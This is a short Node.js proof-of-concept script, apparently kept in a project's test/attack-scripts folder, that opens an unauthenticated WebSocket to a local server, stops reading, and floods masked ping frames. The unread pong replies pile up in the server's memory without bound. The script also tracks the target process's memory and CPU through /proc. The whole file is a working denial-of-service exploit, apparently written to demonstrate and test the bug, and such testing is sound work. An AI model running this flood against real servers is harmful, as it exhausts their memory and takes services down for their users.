// PoC: a WebSocket client (anonymous, no token, no Origin) that never reads and floods ping frames.
// The server answers every ping with a pong (ws auto-pong), which queues in userland once the
// kernel buffers are full: the node's memory grows with what the client sends, with no bound,
// until a node event happens to fire (the only place bufferedAmount is checked).
// usage: node test/attack-scripts/ws-ping-flood.mjs <port> <pid> <MB to send> [payload]
import net from 'node:net'
import crypto from 'node:crypto'
import fs from 'node:fs'
const [port, pid, mb = '300'] = process.argv.slice(2)
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]) / 1024
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
function frame(opcode, payload) {
  const mask = crypto.randomBytes(4)
  const head = Buffer.from([0x80 | opcode, 0x80 | payload.length])
  const body = Buffer.from(payload.map((b, i) => b ^ mask[i % 4]))
  return Buffer.concat([head, mask, body])
}
const ping = frame(0x9, Buffer.alloc(125, 0x41))
const pong = frame(0xa, Buffer.alloc(0))
const batch = Buffer.concat(Array(512).fill(ping)) // 512 pings, ~67 KB
const s = net.connect(Number(port), '127.0.0.1')
console.log('RSS before', rss().toFixed(1), 'MB, cpu', cpu())
s.write(
  `GET / HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: ${crypto.randomBytes(16).toString('base64')}\r\nSec-WebSocket-Version: 13\r\n\r\n`,
)
s.once('data', (d) => {
  console.log(d.toString().split('\r\n')[0])
  if (!d.toString().startsWith('HTTP/1.1 101')) process.exit(1)
  s.pause() // never read again
  const keep = setInterval(() => s.write(pong), 15_000) // unsolicited pongs keep the pinger happy
  let sent = 0
  const target = Number(mb) * 1024 * 1024
  const pump = () => {
    while (sent < target) {
      sent += batch.length
      if (!s.write(batch)) return s.once('drain', pump)
    }
    setTimeout(() => {
      console.log('sent', (sent / 1048576).toFixed(0), 'MB of pings; node RSS', rss().toFixed(1), 'MB, cpu', cpu())
      setTimeout(() => {
        console.log('10 s later RSS', rss().toFixed(1), 'MB; socket still open:', !s.destroyed)
        clearInterval(keep)
        s.destroy()
      }, 10_000)
    }, 2000)
  }
  pump()
})
s.on('error', (e) => console.log('client error', e.message))
s.on('close', () => console.log('closed by server'))
